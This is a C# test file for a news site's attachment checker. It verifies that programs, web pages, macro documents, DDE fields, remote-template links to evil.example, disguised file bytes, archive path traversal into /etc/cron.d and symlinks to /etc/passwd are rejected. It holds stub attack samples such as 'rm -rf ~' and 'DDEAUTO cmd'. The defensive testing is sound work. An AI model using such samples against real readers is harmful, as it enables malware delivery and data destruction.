using System.Text;
using NewsSite.Tests.Harness;
using static NewsSite.Tests.Harness.Sample;

namespace NewsSite.Tests.Diagnostics;

/// <summary>NS17x: documents, by their names and bytes. NS170 is tested with the videos.</summary>
public class AttachmentRulesTests
{
    [Theory]
    [InlineData("setup.exe", "a program")]
    [InlineData("Тиркеме.APK", "a program")]
    [InlineData("report.pdf.lnk", "a program")]
    [InlineData("script.js", "a program")]
    [InlineData("install.sh", "a program")]
    [InlineData("диск.ISO", "a program")]
    [InlineData("help.chm", "a program")]
    [InlineData("notes.xml", "a web page")]
    [InlineData("plan.html.pdf", "a web page")]
    [InlineData("plan.PHP.7z", "a web page")]
    [InlineData("a.php8.pdf", "a web page")]
    [InlineData("a.pht.pdf", "a web page")]
    [InlineData("a.fcgi.pdf", "a web page")]
    [InlineData("a.cfm.pdf", "a web page")]
    [InlineData("a.PhP53.v2.pdf", "a web page")]
    [InlineData("a.jspf.docx", "a web page")]
    [InlineData("a.asmx .pdf", "a web page")]
    [InlineData("a.pl.txt", "a web page")]
    [InlineData("order.docm", "a document with a program inside (macros)")]
    [InlineData("page.html", "a web page")]
    [InlineData("page.XHTML", "a web page")]
    [InlineData("mail.mht", "a web page")]
    public void A_program_or_page_is_an_error_by_its_name(string name, string what) =>
        Reported(name, "жөн эле текст"u8, $"NS171: \"{name}\" is {what}: it would run on the reader's computer");

    public static TheoryData<string, byte[], string> Disguised =>
        new()
        {
            { "a.pdf", [.. "MZ\x90"u8, 0, 3, 0, .. new byte[80]], "a program" },
            { "a.doc", [0x7F, .. "ELF"u8, 2, 1, 1, 0], "a program" },
            { "a.txt", "#!/bin/sh\nrm -rf ~\n"u8.ToArray(), "a program" },
            { "a.zip", [0xCF, 0xFA, 0xED, 0xFE, 7], "a program" },
            { "a.doc", [0xCA, 0xFE, 0xBA, 0xBE, 0], "a program" },
            { "a.txt", "\uFEFF \r\n<!DocType HTML><p>"u8.ToArray(), "a web page" },
            { "a.xls", "<html xmlns:x='excel'>"u8.ToArray(), "a web page" },
            { "a.csv", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<script>")], "a web page" },
            { "a.docx", TestDocument.Docx(more: ("word/vbaProject.bin", "x")), "a document with a program inside" },
            { "a.xlsx", TestDocument.Xlsx(("xl/macrosheets/sheet1.xml", "x")), "a document with a program inside" },
            { "a.odt", TestDocument.OpenDocument("text", ("Basic/A.xml", "x")), "a document with a program inside" },
            { "a.doc", TestDocument.Compound("WordDocument", "Macros"), "a document with a program inside" },
            { "a.rtf", "{\\rtf1{\\object\\objautlink\\objupdate}}"u8.ToArray(), "a document with a program inside" },
            { "a.xml", "<?xml version='1.0'?><h:html xmlns:h='x'/>"u8.ToArray(), "a web page" },
        };

    private const string Word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private const string Links = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    /// <summary>Documents that run something, or load it from another host, without a part that is named for it.</summary>
    public static TheoryData<string, byte[]> Running =>
        new()
        {
            {
                "a.docx",
                TestDocument.Zip(
                    (
                        "[Content_Types].xml",
                        "<T><O ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></T>"
                    ),
                    ("word/document.xml", "<d/>")
                )
            },
            { "a.docx", WithLink("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", "") },
            { "a.docx", WithLink(Links + "control", "activeX1.xml", "") },
            { "a.docx", WithLink(Links + "attachedTemplate", "http://evil.example/a.dotm", "External") },
            { "a.docx", WithLink(Links + "attachedTemplate", @"\\evil.example\a.dotm", "External") },
            { "a.docx", WithLink(Links + "attachedTemplate", "file://evil.example/a.dotm", "External") },
            {
                "a.docx",
                WithLink(Links + "oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a", "External")
            },
            { "a.docx", WithLink(Links + "frame", "https://evil.example/a", "External") },
            { "a.docx", TestDocument.Docx(more: ("word/embeddings/setup.exe", "x")) },
            { "a.docx", TestDocument.Docx(more: ("word/embeddings/a.docm", "x")) },
            {
                "a.docx",
                TestDocument.ZipOf(
                    ("[Content_Types].xml", "<T/>"u8.ToArray()),
                    ("word/document.xml", "<d/>"u8.ToArray()),
                    ("word/embeddings/oleObject1.bin", Packaged("setup.exe"))
                )
            },
            {
                "a.docx",
                TestDocument.Docx(body: $"<w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText>")
            },
            { "a.docx", TestDocument.Docx(body: $"<w:fldSimple w:instr='dde excel'/>") },
            { "a.xlsx", TestDocument.Xlsx(("xl/intlMacrosheets/sheet1.xml", "x")) },
            { "a.xlsx", TestDocument.Xlsx(("xl/MacroSheets/sheet1.xml", "x")) },
            {
                "a.xlsx",
                TestDocument.Xlsx(("xl/externalLinks/externalLink1.xml", "<e><ddeLink ddeService='cmd'/></e>"))
            },
            {
                "a.odt",
                TestDocument.OpenDocument("text", ("content.xml", "<c xmlns:s='urn:s'><s:event-listener/></c>"))
            },
            { "a.doc", PackagedIn("WordDocument", "a.vbs") },
            { "a.xls", PackagedIn("Workbook", @"C:\Users\a.exe") },
            { "a.rtf", @"{\rtf1{\*\template http://evil.example/a.dotm}}"u8.ToArray() },
            { "a.rtf", @"{\rtf1{\object\objocx}}"u8.ToArray() },
            { "a.doc", @"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}"u8.ToArray() },
        };

    [Theory]
    [MemberData(nameof(Running))]
    public void A_document_that_runs_something_is_an_error(string name, byte[] bytes) =>
        Reported(name, bytes, $"NS171: \"{name}\" is a document with a program inside");

    public static TheoryData<string, byte[]> Quiet =>
        new()
        {
            { "a.docx", WithLink(Links + "attachedTemplate", @"file:///C:\Users\a\Normal.dotm", "External") },
            { "a.docx", WithLink(Links + "hyperlink", "https://edu.gov.kg/", "External") },
            { "a.docx", WithLink(Links + "image", "media/image1.png", "") },
            { "a.docx", TestDocument.Docx(body: "<w:instrText> PAGE \\* DDEMO</w:instrText><w:t>DDE</w:t>") },
            { "a.rtf", @"{\rtf1{\*\template C:\\Users\\a\\Normal.dotm}}"u8.ToArray() },
            { "a.epub", TestDocument.Package("application/epub+zip", ("OEBPS/a.js", "x"), ("OEBPS/a.xhtml", "<h/>")) },
        };

    [Theory]
    [MemberData(nameof(Quiet))]
    public void What_every_office_writes_is_no_program(string name, byte[] bytes)
    {
        using var site = Build(name, bytes);
        site.IsFine();
    }

    private static byte[] WithLink(string type, string target, string mode) =>
        TestDocument.Docx(
            more: ("word/_rels/document.xml.rels", $"<R><R Type='{type}' Target='{target}' TargetMode='{mode}'/></R>")
        );

    /// <summary>Returns a compound file with a packaged file: its size, a number, its name and its path.</summary>
    private static byte[] Packaged(string name) => PackagedIn("x", name);

    private static byte[] PackagedIn(string stream, string name) =>
        TestDocument.CompoundOf(
            (stream, []),
            ("\u0001Ole10Native", [9, 0, 0, 0, 2, 0, .. Encoding.ASCII.GetBytes($"{name}\0C:\\{name}\0")])
        );

    [Theory]
    [MemberData(nameof(Disguised))]
    public void A_program_or_page_under_another_name_is_found_by_its_bytes(string name, byte[] bytes, string what) =>
        Reported(name, bytes, $"NS171: \"{name}\" is {what}");

    [Theory]
    [InlineData("<script/>", "<script>")]
    [InlineData("<rect onload='x()'/>", "onload=")]
    [InlineData("<rect style='background-image:image-set(\"https://a.example/a.png\" 1x)'/>", "style=")]
    [InlineData("<image href='https://a.example/a.png'/>", "href=")]
    public void A_drawing_attached_as_a_document_is_checked_like_a_photo(string part, string found) =>
        Reported(
            "a.svg",
            Encoding.UTF8.GetBytes($"<svg xmlns='http://www.w3.org/2000/svg'>{part}</svg>"),
            $"NS156: the drawing \"a.svg\" cannot be published: line 1 holds {found}"
        );

    [Fact]
    public void A_drawing_attached_as_a_document_loses_what_is_not_on_the_list()
    {
        const string drawing =
            "<?xml-stylesheet href='a.xsl'?><!DOCTYPE svg [<!ATTLIST path data-x CDATA 'Айбек'>]>"
            + "<svg xmlns='http://www.w3.org/2000/svg' xmlns:i='urn:i' i:by='Айбек'><!-- Айбек --><metadata>Айбек</metadata>"
            + "<i:x>Айбек</i:x><path d='M0 0' style='fill:red;behavior:none'/></svg>";
        using var site = Build("gerb.svg", Encoding.UTF8.GetBytes(drawing));
        var published = site.IsFine().Page("/news/2024/05/07-a/gerb.svg");
        Assert.Equal(
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\" style=\"fill:red\" /></svg>",
            published
        );
        Assert.Contains($"{published.Length} байт", site.Page("/ky/news/2024/05/07-a/"), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("notes")]
    [InlineData("README")]
    [InlineData("a.user.ini")]
    [InlineData("web.config")]
    [InlineData("a.unknown")]
    [InlineData("a.theme")]
    [InlineData("a.tar.gz")]
    [InlineData("a.mp3")]
    [InlineData("a.one")]
    [InlineData("a.vsdx")]
    [InlineData("a.eml")]
    [InlineData("a.csv ")]
    public void A_document_of_no_kind_on_the_list_is_an_error(string name)
    {
        using var site = Build(name, "текст"u8, $"'{name}'");
        Assert.Contains(site.Diagnostics, line => line.Contains(": error NS17", StringComparison.Ordinal));
        Assert.DoesNotContain(site.Files.Keys, path => path.StartsWith("news/", StringComparison.Ordinal));
    }

    [Fact]
    public void The_message_names_the_kinds_that_are() =>
        Reported(
            "a.unknown",
            "x"u8,
            "NS176: \"a.unknown\" is not of a kind that the site publishes; save it as PDF, or as one of PDF, Word, Excel"
        );

    [Theory]
    [InlineData("a.heic", "HEIC")]
    [InlineData("a.HIF", "HEIC")]
    [InlineData("a.tiff", "TIFF")]
    [InlineData("a.dng", "RAW")]
    [InlineData("a.cr3", "RAW")]
    [InlineData("a.avif", "AVIF")]
    [InlineData("a.jxl", "JPEG XL")]
    [InlineData("a.psd", "Photoshop")]
    public void A_camera_file_is_an_error_by_its_name(string name, string kind) =>
        Reported(name, "x"u8, $"NS177: \"{name}\" is {kind}");

    public static TheoryData<string, byte[], string> CameraFiles =>
        new()
        {
            { "a.jpg", [0, 0, 0, 24, .. "ftypheic"u8, 0, 0, 0, 0, .. "mif1heic"u8], "NS177: \"a.jpg\" is HEIC" },
            { "a.png", [.. "II*"u8, 0, 8, 0, 0, 0], "NS177: \"a.png\" is TIFF" },
            { "a.jpg", [.. "MM"u8, 0, 42, 0, 0, 0, 8], "NS177: \"a.jpg\" is TIFF" },
            { "a.pdf", [0, 0, 0, 24, .. "ftypmp42"u8, 0, 0, 0, 0, .. "isommp42"u8], "NS169: \"a.pdf\" is a video" },
            { "a.webp", [.. "RIFF"u8, 1, 0, 0, 0, .. "AVI LIST"u8], "NS169: \"a.webp\" is a video" },
            { "a.gif", [0x1A, 0x45, 0xDF, 0xA3, 1], "NS169: \"a.gif\" is a video" },
        };

    [Theory]
    [MemberData(nameof(CameraFiles))]
    public void A_camera_file_under_another_name_is_found_by_its_bytes(string name, byte[] bytes, string problem) =>
        Reported(name, bytes, problem);

    [Theory]
    [InlineData("a.mp4")]
    [InlineData("a.MOV")]
    [InlineData("a.webm")]
    public void A_video_belongs_on_a_site_for_videos(string name) =>
        Reported(name, "x"u8, $"NS169: \"{name}\" is a video: its file tells where");

    public static TheoryData<string, byte[], string> Archives =>
        new()
        {
            { "setup.exe", "x"u8.ToArray(), "NS171: \"a.zip/setup.exe\" is a program" },
            { "d/page.htm", "x"u8.ToArray(), "NS171: \"a.zip/d/page.htm\" is a web page" },
            { "plan.pdf", "MZ\0"u8.ToArray(), "NS171: \"a.zip/plan.pdf\" is a program" },
            { "plan.pdf", "x"u8.ToArray(), "NS172: \"a.zip/plan.pdf\" is not a PDF" },
            { "empty.txt", [], "NS173: \"a.zip/empty.txt\" is empty" },
            { "b.zip", TestDocument.Zip(("a.txt", "x")), "NS176: \"a.zip/b.zip\"" },
            { "b.rar", "Rar!\x1A"u8.ToArray(), "NS176: \"a.zip/b.rar\"" },
            { "b.iso", "x"u8.ToArray(), "NS171: \"a.zip/b.iso\"" },
            { "b.mov", "x"u8.ToArray(), "NS169: \"a.zip/b.mov\"" },
            {
                "b.svg",
                "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"u8.ToArray(),
                "NS156: the drawing \"a.zip/b.svg\""
            },
            {
                "b.jpg",
                CameraPhoto.Jpeg(TestPicture.Jpeg(), CameraPhoto.Exif(1)),
                "NS177: \"a.zip/b.jpg\" is a photo with the data of its camera"
            },
            { "../../etc/cron.d/a.txt", "x"u8.ToArray(), "NS178: the name \"a.zip/../../etc/cron.d/a.txt\"" },
            { "..\\..\\a.txt", "x"u8.ToArray(), "NS178: the name \"a.zip/../../a.txt\"" },
            { "/etc/a.txt", "x"u8.ToArray(), "NS176: \"a.zip//etc/a.txt\"" },
            { "C:/a.txt", "x"u8.ToArray(), "NS178: the name \"a.zip/C:/a.txt\"" },
            { "a./a.txt", "x"u8.ToArray(), "NS178: the name \"a.zip/a./a.txt\"" },
            { "aux.txt", "x"u8.ToArray(), "NS178: the name \"a.zip/aux.txt\"" },
            { "~$setup.exe", "x"u8.ToArray(), "NS171: \"a.zip/~$setup.exe\" is a program" },
            { "setup.exe~", "x"u8.ToArray(), "NS176: \"a.zip/setup.exe~\"" },
            { ".d/plan.tmp", "MZ\0"u8.ToArray(), "NS176: \"a.zip/.d/plan.tmp\"" },
            { "__MACOSX/setup.exe", "x"u8.ToArray(), "NS171: \"a.zip/__MACOSX/setup.exe\" is a program" },
            { ".htaccess", "x"u8.ToArray(), "NS176: \"a.zip/.htaccess\"" },
        };

    [Fact]
    public void A_link_in_an_archive_is_an_error()
    {
        using var bytes = new MemoryStream();
        using (
            var archive = new System.IO.Compression.ZipArchive(bytes, System.IO.Compression.ZipArchiveMode.Create, true)
        )
        {
            var link = archive.CreateEntry("a.txt");
            link.ExternalAttributes = unchecked((int)0xA1FF0000);
            using var content = link.Open();
            content.Write("/etc/passwd"u8);
        }

        Reported("a.zip", bytes.ToArray(), "NS176: \"a.zip/a.txt\"");
    }

    [Fact]
    public void Names_in_an_archive_may_be_in_an_older_encoding()
    {
        // Windows writes Russian names in code page 866 without saying so.
        var archive = TestDocument.Zip(("??????.txt", "x"), ("!!!!!!.txt", "x"));
        var (first, second) = (
            new byte[] { 0x8F, 0xE0, 0xA8, 0xAA, 0xA0, 0xA7 },
            new byte[] { 0x91, 0xAF, 0xA8, 0xE1, 0xAE, 0xAA }
        );
        for (var at = 0; at < archive.Length - 6; at++)
        {
            var name = archive.AsSpan(at, 6);
            if (name.SequenceEqual("??????"u8))
            {
                first.CopyTo(name);
            }
            else if (name.SequenceEqual("!!!!!!"u8))
            {
                second.CopyTo(name);
            }
        }

        using var site = Build("a.zip", archive);
        site.IsFine();
    }

    [Theory]
    [MemberData(nameof(Archives))]
    public void A_file_in_an_archive_is_checked_as_if_it_were_attached(string name, byte[] bytes, string problem) =>
        Reported("a.zip", TestDocument.ZipOf(("fine.txt", "x"u8.ToArray()), (name, bytes)), problem);

    [Fact]
    public void What_systems_leave_in_an_archive_is_no_problem()
    {
        var archive = TestDocument.Zip(
            ("plan.csv", "1;2"),
            ("__MACOSX/._plan.csv", "\0"),
            (".DS_Store", "\0"),
            ("d/Thumbs.db", "\0")
        );
        using var site = Build("a.zip", archive);
        site.IsFine();
    }

    [Theory]
    [InlineData("a.pdf", "PDF")]
    [InlineData("a.docx", "Word")]
    [InlineData("a.doc", "Word")]
    [InlineData("a.xlsx", "Excel")]
    [InlineData("a.ods", "OpenDocument")]
    [InlineData("a.zip", "ZIP")]
    [InlineData("a.jpg", "JPEG")]
    public void A_document_that_was_only_renamed_is_an_error(string name, string kind) =>
        Reported(name, "Окуу планы"u8, $"NS172: \"{name}\" is not a {kind} file inside: it is damaged");

    [Fact]
    public void A_document_of_0_bytes_is_an_error() =>
        Reported("plan.pdf", [], "NS173: \"plan.pdf\" is empty (0 bytes)");

    [Fact]
    public void A_document_linked_in_the_text_is_checked_like_an_attachment()
    {
        using var folder = TestFolder.Of(Body("Мына [тиркеме](a.exe) жана [план](a.pdf)."));
        Add(folder, "a.exe", "x"u8);
        Add(folder, "a.pdf", "x"u8);
        using var site = TestSite.Build(folder);
        site.Reports(
            $"{TheArticle}:5:6: error NS171: \"a.exe\" is a program",
            $"{TheArticle}:5:28: error NS172: \"a.pdf\" is not a PDF"
        );
    }

    [Theory]
    [InlineData("plan.pdf", "\r\n\r\n%PDF-1.7")]
    [InlineData("table.csv", "MZ;1\nИ;2\n")]
    [InlineData("notes.txt", "<10 окуучу; a<b")]
    [InlineData("data.json", "{\"мектеп\": 1}")]
    [InlineData("day.ics", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")]
    [InlineData("old.doc", "{\\rtf1}")]
    [InlineData("gerb.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>")]
    public void An_ordinary_document_is_fine(string name, string text)
    {
        using var site = Build(name, Encoding.UTF8.GetBytes(text));
        site.IsFine();
    }

    [Fact]
    public void Names_that_differ_only_in_case_are_an_error_across_the_languages()
    {
        using var folder = TestFolder.Of(
            Story("2024/05/07-a", "ky", "А", "attachments: [{file: План.csv}]")
                + Story("2024/05/07-a", "ru", "А", body: "[план](план.csv)")
        );
        Add(folder, "План.csv", "1"u8);
        Add(folder, "план.csv", "2"u8);
        using var site = TestSite.Build(folder);
        site.Reports(
            "content/news/2024/05/07-a/план.csv: error NS174: \"план.csv\" and \"План.csv\" differ only in capital letters"
        );
    }

    [Fact]
    public void A_backslash_in_a_name_is_an_error() =>
        Reported("plan\\2024.csv", "x"u8, "NS175: \"plan\\2024.csv\" has a backslash", written: "'plan\\2024.csv'");

    [Fact]
    public void A_language_the_site_does_not_have_is_an_error()
    {
        using var folder = TestFolder.Of(
            Article("title: А\ndate: 2024-05-07\nattachments: [{file: a.csv, language: en}]")
        );
        Add(folder, "a.csv", "x"u8);
        using var site = TestSite.Build(folder);
        site.Reports($"{TheArticle}:4:39: error NS116: the site has no language \"en\"; its languages are ky, ru");
    }

    private static void Reported(string name, ReadOnlySpan<byte> bytes, string problem, string? written = null)
    {
        using var site = Build(name, bytes, written);
        site.Reports($"{TheArticle}:5:11: error {problem}");
    }

    private static TestSite Build(string name, ReadOnlySpan<byte> bytes, string? written = null)
    {
        var folder = TestFolder.Of(Article($"title: А\ndate: 2024-05-07\nattachments:\n  - file: {written ?? name}"));
        Add(folder, name, bytes);
        return TestSite.Build(folder);
    }

    private static void Add(TestFolder folder, string name, ReadOnlySpan<byte> bytes) =>
        folder.Add($"content/news/2024/05/07-a/{name}", bytes.ToArray());
}
